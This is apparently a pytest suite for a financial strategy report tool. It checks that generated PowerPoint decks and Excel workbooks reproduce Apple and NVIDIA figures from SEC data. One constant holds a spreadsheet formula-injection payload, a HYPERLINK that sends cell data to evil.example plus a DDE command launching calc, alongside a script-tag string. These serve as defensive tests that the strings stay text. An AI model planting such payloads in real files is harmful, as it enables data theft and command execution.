"""The slide deck (.pptx) and the workbook (.xlsx): opened with their libraries and checked against SEC's JSON.

Figures are read in the test from the bundled SEC companyfacts payload (consultantos_assets/sample_data),
never from the project's parser; the report itself is built from the same payload by the snapshot source.
"""

from __future__ import annotations

import csv
import datetime as dt
import functools
import io
import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest
from pptx import Presentation
from pptx.util import Emu, Inches

from consultantos_assets import report as rpt
from consultantos_assets.analysis.evidence import build_evidence
from consultantos_assets.analysis.valuation import multiples
from consultantos_assets.models import CompanyProfile
from consultantos_assets.report import content
from consultantos_assets.report.text import clean
from consultantos_assets.sources.sec import SnapshotFinancials
from consultantos_assets_tests.report_fixtures import (
    HOSTILE_NAME,
    MARKUP_POINT,
    _pt,
    apple_report,
    hostile_report,
    no_financials_report,
)

from .conftest import BUNDLED, artifacts_dir
from .test_figures import run

CIK = 320193
RFCWC = "RevenueFromContractWithCustomerExcludingAssessedTax"
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click") @SUM(1+1) +cmd|\' /C calc\'!A0'


@functools.cache
def companyfacts() -> dict:
    return json.loads((BUNDLED / "sec_edgar" / "companyfacts" / f"CIK{CIK:010d}.json").read_text())


def sec_annual_rows(concept: str, unit: str = "USD") -> dict[int, dict]:
    """Fiscal-year rows of one concept straight from SEC's JSON: 10-K, a one-year duration, the row of
    the latest filing for each period end (Apple's fiscal year is named after the year it ends in)."""
    rows = companyfacts()["facts"]["us-gaap"][concept]["units"][unit]
    best: dict[str, dict] = {}
    for r in rows:
        if r["form"] != "10-K" or "start" not in r:
            continue
        days = (dt.date.fromisoformat(r["end"]) - dt.date.fromisoformat(r["start"])).days
        if 350 <= days <= 380 and (r["end"] not in best or r["filed"] > best[r["end"]]["filed"]):
            best[r["end"]] = r
    return {int(end[:4]): r for end, r in best.items()}


def sec_annual(concept: str, unit: str = "USD") -> dict[int, float]:
    return {year: float(r["val"]) for year, r in sec_annual_rows(concept, unit).items()}


@pytest.fixture(scope="module")
def sec_report():
    """Apple's report whose financial statements come from the bundled SEC payload."""
    fin = SnapshotFinancials(BUNDLED).financials(CompanyProfile(ticker="AAPL", name="Apple Inc.", cik=CIK))
    base = apple_report()
    fin = fin.model_copy(update={"prices": base.financials.prices,
                                 "price_provenance": base.financials.price_provenance})
    return base.model_copy(update={"financials": fin, "evidence": build_evidence(base.research, base.trends, fin)})


@pytest.fixture(scope="module")
def files(sec_report, tmp_path_factory) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("office")
    return {"pptx": rpt.render_pptx(sec_report, out / "AAPL_report.pptx"),
            "xlsx": rpt.render_xlsx(sec_report, out / "AAPL_report.xlsx")}


def slide_texts(prs) -> list[str]:
    texts = []
    for slide in prs.slides:
        parts = []
        for shape in slide.shapes:
            if shape.has_text_frame:
                parts.append(shape.text_frame.text)
            if shape.has_table:
                parts += [c.text for row in shape.table.rows for c in row.cells]
        texts.append("\n".join(parts))
    return texts


def titles(prs) -> list[str]:
    """Each slide's title: the text box in the title bar (the title slide's is the company name)."""
    out = []
    for slide in prs.slides:
        boxes = [s for s in slide.shapes if s.has_text_frame and s.text_frame.text and s.top < Inches(1.0)
                 and s.top > Inches(0.3)]
        out.append(boxes[0].text_frame.text if boxes else
                   next(s.text_frame.text for s in slide.shapes if s.has_text_frame and "(AAPL)" in s.text_frame.text))
    return out


def charts(slide) -> list:
    return [s.chart for s in slide.shapes if s.has_chart]


def header_row(ws, first: str) -> int:
    for row in ws.iter_rows(min_col=1, max_col=1):
        if row[0].value == first:
            return row[0].row
    raise AssertionError(f"no row starting with {first!r} in {ws.title}")


def row_of(ws, label: str, after: int = 1) -> int:
    for row in ws.iter_rows(min_row=after, min_col=1, max_col=1):
        if row[0].value == label:
            return row[0].row
    raise AssertionError(f"no row {label!r} in {ws.title}")


# ------------------------------------------------------------------------------------------- deck


def test_deck_is_16_9_with_every_section_in_order(files, sec_report):
    prs = Presentation(str(files["pptx"]))
    assert (Emu(prs.slide_width).inches, Emu(prs.slide_height).inches) == pytest.approx((13.333, 7.5), abs=1e-3)
    texts = titles(prs)
    expected = ["Apple Inc. (AAPL)", "Executive summary", "Key metrics dashboard", "Revenue and net income",
                "Margins", "Share price", "Cash flow and capital", "Latest quarter and valuation multiples",
                "Comparables", "Porter's five forces",
                "SWOT analysis", "PESTEL analysis", "Blue Ocean: eliminate, reduce, raise, create",
                "Blue Ocean: strategy canvas", "Risks and data gaps", "What changed", "Sources"]
    at = 0
    for title in expected:  # each title on a later slide than the one before
        at = next(i for i in range(at, len(texts)) if texts[i].startswith(title)) + 1
    n_sources = len(rpt.cited_ids(sec_report))
    assert sum(t.startswith("Sources") for t in texts) == -(-n_sources // 14)  # 14 sources a slide
    assert texts[:3] == expected[:3] and len(set(texts)) == len(texts)


def test_deck_charts_are_native_and_hold_sec_figures(files):
    prs = Presentation(str(files["pptx"]))
    texts = slide_texts(prs)
    slide = prs.slides[next(i for i, t in enumerate(texts) if "Revenue and net income" in t)]
    [chart] = charts(slide)
    years = [int(c[2:]) for c in chart.plots[0].categories]
    series = {s.name: list(s.values) for s in chart.plots[0].series}
    revenue, net_income = sec_annual(RFCWC), sec_annual("NetIncomeLoss")
    assert years[-1] == 2025 and len(years) == 5
    assert [v * 1e9 for v in series["Revenue"]] == pytest.approx([revenue[y] for y in years], rel=1e-12)
    assert [v * 1e9 for v in series["Net income"]] == pytest.approx([net_income[y] for y in years], rel=1e-12)
    assert revenue[2024] == 391_035_000_000
    # margins: a line chart of net income / revenue
    slide = prs.slides[titles(prs).index("Margins")]
    [chart] = charts(slide)
    nm = dict(zip(chart.plots[0].categories, next(s for s in chart.plots[0].series if s.name == "Net margin").values,
                  strict=True))
    assert nm["FY2025"] == pytest.approx(net_income[2025] / revenue[2025], rel=1e-12)
    # every chart's data is in its embedded workbook, so it stays editable in PowerPoint
    for slide in prs.slides:
        for ch in charts(slide):
            assert ch.part.chart_workbook.xlsx_part is not None


def test_deck_shows_hostile_strings_literally(tmp_path):
    r = hostile_report()
    r.swot.threats.append(_pt(INJECTION, ["fin:revenue:FY2024"], 0.4))
    r.swot.strengths.insert(0, r.swot.strengths.pop())  # the markup point first: a slide shows the first three
    prs = Presentation(str(rpt.render_pptx(r, tmp_path / "h.pptx")))
    everything = "\n".join(slide_texts(prs))
    assert HOSTILE_NAME in everything  # markup-looking text is text
    assert clean(MARKUP_POINT) in everything
    assert INJECTION in everything
    assert "&amp;" not in everything and "&lt;" not in everything  # escaped once, by the library, not twice
    assert "<script>alert(1)</script>" in everything


# ------------------------------------------------------------------------------------------- workbook


def test_workbook_sheets_and_annual_figures_equal_sec(files):
    wb = openpyxl.load_workbook(files["xlsx"])
    assert wb.sheetnames == ["Report", "Annual", "Quarterly", "Cash flow & multiples", "Peers", "Trends", "Prices",
                             "Frameworks", "Sources", "What changed"]
    ws = wb["Annual"]
    head = header_row(ws, "Metric")
    labels = [c.value for c in ws[head]]
    assert labels[:2] == ["Metric", "Unit"]
    cols = {int(v[2:]): i + 1 for i, v in enumerate(labels) if isinstance(v, str) and v.startswith("FY")}
    for label, concept in (("Revenue", RFCWC), ("Net income", "NetIncomeLoss"), ("Gross profit", "GrossProfit")):
        row = row_of(ws, label, head)
        assert ws.cell(row, 2).value == "USD m"
        sec = sec_annual(concept)
        for year, col in cols.items():
            cell = ws.cell(row, col)
            assert cell.data_type == "n" and cell.value == sec[year], (label, year)
            assert cell.number_format == "#,##0,,;-#,##0,,"  # shown in millions, the exact value kept
    ends = {y: dt.datetime.fromisoformat(r["end"]) for y, r in sec_annual_rows(RFCWC).items()}
    period_end = row_of(ws, "Period end", head)
    assert {y: ws.cell(period_end, col).value for y, col in cols.items()} == {y: ends[y] for y in cols}
    eps = ws.cell(row_of(ws, "Diluted EPS", head), cols[2025])
    assert eps.value == sec_annual("EarningsPerShareDiluted", "USD/shares")[2025]
    assert ws.cell(eps.row, 2).value == "USD per share"


def test_workbook_margins_and_growth_are_formulas_over_their_cells(files):
    wb = openpyxl.load_workbook(files["xlsx"])
    cached = openpyxl.load_workbook(files["xlsx"], data_only=True)  # values cached for non-recalculating viewers
    ws, wc = wb["Annual"], cached["Annual"]
    head = header_row(ws, "Metric")
    cols = {int(v[2:]): i + 1 for i, v in enumerate(c.value for c in ws[head]) if str(v).startswith("FY")}
    rev_row, gp_row = row_of(ws, "Revenue", head), row_of(ws, "Gross profit", head)
    ratio_head = header_row(ws, "Ratio")
    gm_row, growth_row = row_of(ws, "Gross margin", ratio_head), row_of(ws, "Revenue growth", ratio_head)
    revenue, gross = sec_annual(RFCWC), sec_annual("GrossProfit")
    for year, col in cols.items():
        letter = openpyxl.utils.get_column_letter(col)
        formula = ws.cell(gm_row, col).value
        assert formula.startswith("=") and f"{letter}{gp_row}/{letter}{rev_row}" in formula
        assert wc.cell(gm_row, col).value == pytest.approx(gross[year] / revenue[year], rel=1e-12)
        assert ws.cell(gm_row, col).number_format == "0.0%"
        if year - 1 in cols:
            prev = openpyxl.utils.get_column_letter(cols[year - 1])
            assert f"{letter}{rev_row}/{prev}{rev_row}-1" in ws.cell(growth_row, col).value
            assert wc.cell(growth_row, col).value == pytest.approx(revenue[year] / revenue[year - 1] - 1, rel=1e-12)


# ------------------------------------------------------------------- cash flow and multiples

CF = "Cash flow & multiples"


def sec_ttm(concept: str, unit: str = "USD") -> float:
    """Apple's trailing twelve months to 2025-12-27 from SEC's JSON: FY2025 (10-K) + Q1 FY2026 - Q1 FY2025."""
    rows = companyfacts()["facts"]["us-gaap"][concept]["units"][unit]

    def one(start: str, end: str, form: str) -> float:
        hits = [r for r in rows if r.get("start") == start and r["end"] == end and r["form"] == form]
        return float(max(hits, key=lambda r: r["filed"])["val"])

    return one("2024-09-29", "2025-09-27", "10-K") + one("2025-09-28", "2025-12-27", "10-Q") - one(
        "2024-09-29", "2024-12-28", "10-Q")


def bundled_last_close(ticker: str) -> float:
    with (BUNDLED / "prices_daily" / f"{ticker}.csv").open(newline="") as handle:
        return float(list(csv.DictReader(handle))[-1]["Close"])


def _n(value: object) -> float:
    return float(value) if isinstance(value, int | float) else 0.0  # Excel's N(): text is 0


def evaluate(wb, sheet: str, ref: str) -> object:
    """A cell computed from the cells its formula references (never its cached value); only the workbook's
    own formula shapes: a link, =IF(N(x)>0,expr,"n/a") and + - * / over cells and N(cell)."""
    value = wb[sheet][ref].value
    if not isinstance(value, str) or not value.startswith("="):
        return value
    body = value[1:]
    if link := re.fullmatch(r"'([^']+)'!([A-Z]+\d+)", body):
        return evaluate(wb, link[1], link[2])
    if guard := re.fullmatch(r'IF\(N\(([A-Z]+\d+)\)>0,(.+),"n/a"\)', body):
        if not _n(evaluate(wb, sheet, guard[1])) > 0:
            return "n/a"
        body = guard[2]
    expr = re.sub(r"N\(([A-Z]+\d+)\)", lambda m: repr(_n(evaluate(wb, sheet, m[1]))), body)
    expr = re.sub(r"\b([A-Z]+\d+)\b", lambda m: repr(float(evaluate(wb, sheet, m[1]))), expr)
    assert re.fullmatch(r"[-+*/() .\deE]+", expr), (ref, value, expr)
    return eval(expr)  # arithmetic only (checked above), in Excel's left-to-right order


@pytest.fixture(scope="module")
def pipeline(tmp_path_factory) -> dict[str, tuple]:
    """The offline pipeline's AAPL and NVDA reports (bundled SEC facts and prices), each with its workbook
    read twice: formulas, and the values cached for viewers that do not recalculate."""
    out = tmp_path_factory.mktemp("pipeline")
    books = {}
    for ticker in ("AAPL", "NVDA"):
        report = run(ticker)[3]
        path = rpt.render_xlsx(report, out / f"{ticker}.xlsx")
        books[ticker] = (report, path, openpyxl.load_workbook(path), openpyxl.load_workbook(path, data_only=True))
    return books


@pytest.mark.parametrize("ticker", ["AAPL", "NVDA"])
def test_workbook_multiples_are_valuations_as_formulas(pipeline, ticker):
    report, _, wb, cached = pipeline[ticker]
    ws, wc = wb[CF], cached[CF]
    expected = multiples(report.financials, content.is_bank(report))  # analysis/valuation.py: the PDF's table
    assert expected and any(m.value is None for m in expected) and any(m.value is not None for m in expected)
    head = header_row(ws, "Multiple")
    for m in expected:
        row = row_of(ws, m.label, head)
        if m.value is None:  # n/a in the PDF: n/a text and the reason, never a formula
            assert ws.cell(row, 2).data_type == "s" and ws.cell(row, 2).value == "n/a"
            assert ws.cell(row, 4).value == f"n/a: {m.reason}"
            continue
        assert ws.cell(row, 2).data_type == "f"
        assert wc.cell(row, 2).value == m.value, m.key  # the cached value is the PDF's, exactly
        assert evaluate(wb, CF, f"B{row}") == m.value, m.key  # and so is what the formula computes
        assert ws.cell(row, 4).value == m.basis
        assert ws.cell(row, 2).number_format == ('0.00%' if m.key.endswith("yield") else '0.0"x"')
    # trailing P/E: the last close over the diluted EPS of the period valuation.py uses
    pe = next(m for m in expected if m.key == "pe_trailing")
    close_row = row_of(ws, "Last close")
    eps_row = next(c.row for c in ws["A"] if str(c.value).startswith("Diluted EPS ("))
    assert ws.cell(eps_row, 1).value == f"Diluted EPS ({pe.period})"
    assert ws.cell(row_of(ws, "Trailing P/E", head), 2).value == f'=IF(N(B{eps_row})>0,B{close_row}/B{eps_row},"n/a")'
    assert wc.cell(close_row, 2).value == bundled_last_close(ticker)
    link = re.fullmatch(r"='Annual'!([A-Z]+)(\d+)", ws.cell(eps_row, 2).value)  # the EPS cell of the Annual sheet
    annual = wb["Annual"]
    assert link and annual[f"A{link[2]}"].value == "Diluted EPS"
    period_head = annual.cell(header_row(annual, "Metric"), openpyxl.utils.column_index_from_string(link[1])).value
    assert period_head == (content.ttm_label(report.financials.ttm[0].period_end) if pe.period.startswith("TTM")
                           else pe.period)
    if ticker == "AAPL":  # TTM EPS, from SEC's JSON; the FY2025-EPS P/E is nowhere in the workbook
        eps = sec_ttm("EarningsPerShareDiluted", "USD/shares")
        assert wc.cell(eps_row, 2).value == pytest.approx(eps, rel=1e-12)
        assert pe.display == f"{bundled_last_close('AAPL') / eps:,.1f}x"
        annual_pe = bundled_last_close("AAPL") / sec_annual("EarningsPerShareDiluted", "USD/shares")[2025]
        assert round(annual_pe, 1) != round(pe.value, 1)
        numbers = [c.value for sheet in cached for row in sheet.iter_rows() for c in row
                   if isinstance(c.value, float)]
        assert not any(v == pytest.approx(annual_pe, rel=1e-9) for v in numbers)
        assert "Price / earnings" not in {c.value for sheet in wb for c in sheet["A"]}
    else:  # NVIDIA: no marketable securities for FY2026, so EV is n/a and so are the EV multiples
        ev_row = row_of(ws, "Enterprise value (EV)")
        assert ws.cell(ev_row, 2).value == "n/a" and "marketable securities" in ws.cell(ev_row, 4).value


def test_workbook_cash_flow_equals_sec(pipeline):
    report, _, wb, cached = pipeline["AAPL"]
    ws, wc = wb[CF], cached[CF]
    head = header_row(ws, "Metric")
    labels = [c.value for c in ws[head]]
    cols = {int(v[2:]): i + 1 for i, v in enumerate(labels) if str(v).startswith("FY")}
    ttm_col = next(i + 1 for i, v in enumerate(labels) if str(v).startswith("TTM"))
    assert labels[ttm_col - 1] == "TTM 2025-12-27" and 2025 in cols
    for label, concept in (("Operating cash flow", "NetCashProvidedByUsedInOperatingActivities"),
                           ("Capital expenditure", "PaymentsToAcquirePropertyPlantAndEquipment")):
        row = row_of(ws, label, head)
        assert ws.cell(row, 2).value == "USD m"
        sec = sec_annual(concept)
        fy2025 = sec_annual_rows(concept)[2025]
        assert fy2025["end"] == "2025-09-27" and fy2025["form"] == "10-K"
        for year, col in cols.items():
            assert wc.cell(row, col).value == sec[year], (label, year)
            assert ws.cell(row, col).number_format == "#,##0,,;-#,##0,,"
        assert wc.cell(row, cols[2025]).value == float(fy2025["val"])
        assert wc.cell(row, ttm_col).value == pytest.approx(sec_ttm(concept), rel=1e-12)
    # the Annual sheet carries the TTM column the multiples link to; the Quarterly sheet the latest quarter
    annual = wb["Annual"]
    assert "TTM 2025-12-27" in [c.value for c in annual[header_row(annual, "Metric")]]
    quarterly = wb["Quarterly"]
    assert "FY2026 Q1" in [c.value for c in quarterly[header_row(quarterly, "Metric")]]


def test_deck_shows_the_pdfs_multiples(pipeline, tmp_path):
    report = pipeline["AAPL"][0]
    prs = Presentation(str(rpt.render_pptx(report, tmp_path / "a.pptx")))
    slide = prs.slides[titles(prs).index("Latest quarter and valuation multiples")]
    tables = [s.table for s in slide.shapes if s.has_table]
    rows = {r.cells[0].text: [c.text for c in r.cells] for t in tables for r in t.rows}
    pdf = " ".join(rpt.pdf_text(rpt.render_pdf(report, tmp_path / "a.pdf").path)[1].split())
    eps = sec_ttm("EarningsPerShareDiluted", "USD/shares")
    pe_text = f"{bundled_last_close('AAPL') / eps:,.1f}x"
    assert rows["Trailing P/E"][1] == pe_text
    for m in multiples(report.financials, content.is_bank(report)):
        label, shown, basis = rows[m.label]
        assert f"{label} {shown}" in pdf, label  # the PDF's multiples table row: label, then the value
        assert shown == m.display and basis == (m.basis if m.value is not None else f"n/a: {m.reason}")
    # the latest quarter with its TTM figure, and the dashboard's trailing P/E
    assert rows["Diluted EPS"][-1] == f"${eps:,.2f}"
    dash = slide_texts(prs)[titles(prs).index("Key metrics dashboard")]
    assert "TRAILING P/E" in dash and pe_text in dash and "TTM REVENUE" in dash


def test_workbook_sources_map_evidence_to_accession_and_date(files, sec_report):
    ws = openpyxl.load_workbook(files["xlsx"])["Sources"]
    head = header_row(ws, "Evidence id")
    rows = {r[0].value: r for r in ws.iter_rows(min_row=head + 1)}
    data = json.loads((BUNDLED / "sec_edgar" / "companyfacts" / f"CIK{CIK:010d}.json").read_text())
    fy25 = [r for r in data["facts"]["us-gaap"][RFCWC]["units"]["USD"]
            if r["form"] == "10-K" and r["end"] == "2025-09-27" and r.get("start") == "2024-09-29"]
    row = rows["fin:revenue:FY2025"]
    assert row[7].value in {r["accn"] for r in fy25}
    assert row[8].value == dt.datetime(2025, 9, 27)
    assert row[4].value == fy25[0]["val"]
    assert {e.id for e in sec_report.evidence} <= set(rows)


def test_workbook_keeps_hostile_strings_as_text(tmp_path):
    r = hostile_report()
    r.swot.threats.append(_pt(INJECTION, ["fin:revenue:FY2024"], 0.4))
    wb = openpyxl.load_workbook(rpt.render_xlsx(r, tmp_path / "h.xlsx"))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    injected = [c for c in cells if c.value == INJECTION]
    assert injected and all(c.data_type == "s" for c in injected)  # a string, never a formula
    assert any(c.value == f"{HOSTILE_NAME} (AAPL) · strategy report workbook" for c in cells)
    formulas = [c for c in cells if c.data_type == "f"]
    own = re.compile(r"""^=(IF\(|'[A-Za-z &]+'![A-Z]+\d+$|[A-Z]+\d+[*+])""")  # ratios, links, market cap, EV
    assert formulas and all(own.match(c.value) for c in formulas), [c.value for c in formulas if not own.match(c.value)]
    assert not any("HYPERLINK" in c.value or "evil" in c.value for c in formulas)


# ------------------------------------------------------------------------------------------- both


def test_identical_inputs_give_identical_files_dated_by_the_report(sec_report):
    for build in (rpt.build_pptx_bytes, rpt.build_xlsx_bytes):
        a, b = build(sec_report), build(sec_report)
        assert a == b
        with zipfile.ZipFile(io.BytesIO(a)) as z:
            assert {i.date_time[:3] for i in z.infolist()} == {(2024, 11, 1)}
            core = z.read("docProps/core.xml").decode()
            assert "2024-11-01T00:00:00Z" in core
            for name in z.namelist():  # the charts' embedded workbooks too
                if name.endswith(".xlsx"):
                    with zipfile.ZipFile(io.BytesIO(z.read(name))) as inner:
                        assert {i.date_time[:3] for i in inner.infolist()} == {(2024, 11, 1)}
        later = sec_report.model_copy(update={"as_of": dt.date(2025, 1, 2)})
        assert build(later) != a


def test_missing_figures_say_not_available(tmp_path):
    r = no_financials_report()
    prs = Presentation(str(rpt.render_pptx(r, tmp_path / "n.pptx")))
    texts = slide_texts(prs)
    assert "Cash flow and capital figures: not available" in next(t for t in texts if "Cash flow and capital" in t)
    assert "Valuation multiples: not available" in next(t for t in texts if "valuation multiples" in t)
    assert "Comparables: not available" in next(t for t in texts if "Comparables" in t)
    assert "Revenue and net income: not available" in next(t for t in texts if "Revenue and net income" in t)
    wb = openpyxl.load_workbook(rpt.render_xlsx(r, tmp_path / "n.xlsx"))
    assert wb["Annual"]["A4"].value == rpt.missing_financials_message(r) + "."
    assert "not available" in wb["Peers"]["A4"].value


def test_named_peers_and_their_median_fill_the_comparables(tmp_path):
    from consultantos_assets.analysis.peer_comparison import peer_evidence
    from consultantos_assets.models import PeerComparison, PeerFigures, PeerGap

    r = apple_report(with_previous=False)
    peers = [PeerFigures(ticker=t, name=n, fiscal_year=2024, period_end=dt.date(2024, 12, 31),
                         accession=f"0000000000-24-00000{i}", revenue=rev, gross_margin=gm, pe=pe)
             for i, (t, n, rev, gm, pe) in enumerate((("MSFT", "Microsoft", 245e9, 0.70, 35.0),
                                                      ("NVDA", "NVIDIA", 130e9, 0.75, 50.0),
                                                      ("GOOGL", "Alphabet", 350e9, 0.58, 22.0)))]
    r.peers = PeerComparison(ticker="AAPL", figures=peers, missing=[PeerGap(ticker="DELL", name="Dell",
                                                                         reason="no SEC facts in the snapshot")])
    r.evidence.extend(peer_evidence(r.peers))
    wb = openpyxl.load_workbook(rpt.render_xlsx(r, tmp_path / "p.xlsx"))
    ws = wb["Peers"]
    row = row_of(ws, "Peer median")
    head = header_row(ws, "Company")
    col = next(c.column for c in ws[head] if str(c.value).startswith("Gross margin"))
    assert ws.cell(row, col).value == pytest.approx(0.70)  # the median of 0.70, 0.75 and 0.58
    assert ws.cell(row_of(ws, "Apple Inc. (AAPL)"), col).value == pytest.approx(180_683 / 391_035, rel=1e-12)
    assert "median of 3 peers: MSFT, NVDA, GOOGL" in ws.cell(row, ws.max_column).value
    assert "no SEC facts" in ws.cell(row_of(ws, "Dell (DELL)"), ws.max_column).value
    # Apple's 46.2% gross margin ranks 4th of the four companies with the figure
    assert ws.cell(row_of(ws, "AAPL rank"), col).value == "4 of 4"
    texts = slide_texts(Presentation(str(rpt.render_pptx(r, tmp_path / "p.pptx"))))
    comp = next(t for t in texts if "Comparables" in t)
    assert "Peer median" in comp and "70.0%" in comp and "AAPL rank" in comp


def test_no_median_and_no_rank_below_three_peers(tmp_path):
    from consultantos_assets.analysis.peer_comparison import peer_evidence
    from consultantos_assets.models import PeerComparison, PeerFigures
    from consultantos_assets.report import content

    r = apple_report(with_previous=False)
    r.peers = PeerComparison(ticker="AAPL", figures=[
        PeerFigures(ticker=t, name=t, fiscal_year=2024, period_end=dt.date(2024, 12, 31), accession="a",
                    revenue=1e9, gross_margin=0.5) for t in ("MSFT", "NVDA")])
    assert peer_evidence(r.peers) == []
    r.evidence.extend(peer_evidence(r.peers))
    rows = content.comparables(r)
    assert rows[-1].label == "Peer median" and set(rows[-1].values.values()) == {None}
    assert content.comparable_ranks(r) == {}
    assert "2 of 2 named peers have figures, and a comparison needs at least 3" in content.comparables_basis(r)


def test_exports_and_store_write_every_output_and_history_reaches_them(tmp_path):
    from consultantos_assets.defs.resources import ReportStore

    store = ReportStore(directory=str(tmp_path / "reports"))
    first = apple_report(with_previous=False)
    published = store.publish(first, "Apple Inc.")
    artifact = published.artifact
    assert published.problems == []  # read back where it was written, as soon as it was
    assert set(artifact.outputs) == {"pdf", "md", "json", "pptx", "xlsx"}
    assert all(Path(p).is_file() for p in artifact.outputs.values())
    assert "What changed" not in openpyxl.load_workbook(artifact.outputs["xlsx"]).sheetnames
    later = apple_report(with_previous=False, as_of=first.as_of.replace(year=first.as_of.year + 1))
    changed = store.publish(later, "Apple Inc.").artifact
    assert changed.compared_with is not None
    assert "What changed" in openpyxl.load_workbook(changed.outputs["xlsx"]).sheetnames
    assert any(t.startswith("What changed") for t in titles(Presentation(changed.outputs["pptx"])))


@pytest.mark.skipif(shutil.which("soffice") is None or shutil.which("pdftoppm") is None,
                    reason="LibreOffice (soffice) and poppler (pdftoppm) render the slides")
def test_slides_render_to_png(files):
    out = artifacts_dir("office")
    for old in out.glob("AAPL-*.png"):
        old.unlink()
    subprocess.run(["soffice", "--headless", "--convert-to", "pdf", "--outdir", str(out), str(files["pptx"])],
                   check=True, capture_output=True, timeout=300)
    pdf = out / "AAPL_report.pdf"
    subprocess.run(["pdftoppm", "-png", "-r", "50", str(pdf), str(out / "AAPL")], check=True, timeout=300)
    pngs = sorted(out.glob("AAPL-*.png"))
    assert len(pngs) == len(Presentation(str(files["pptx"])).slides)
